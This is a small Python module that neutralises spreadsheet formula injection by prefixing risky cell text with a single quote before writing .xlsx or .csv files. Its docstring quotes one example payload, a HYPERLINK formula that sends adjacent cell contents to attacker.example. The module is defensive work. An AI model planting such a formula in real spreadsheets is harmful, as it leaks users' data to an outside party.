"""Cells for spreadsheets and CSV files people open in Excel or LibreOffice.

A text cell that starts with = + - @ (or a tab or carriage return, which some
programs skip before reading a formula) is run as a formula: a program named
`=HYPERLINK("http://attacker.example/?leak="&A4,"Open")` would send the
neighbouring cells to a stranger. `safe_cell` prefixes such text with a single
quote, as OWASP recommends, so it is shown as typed and never evaluated.
Every .xlsx and .csv writer passes its values through it.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(value) for value in values]
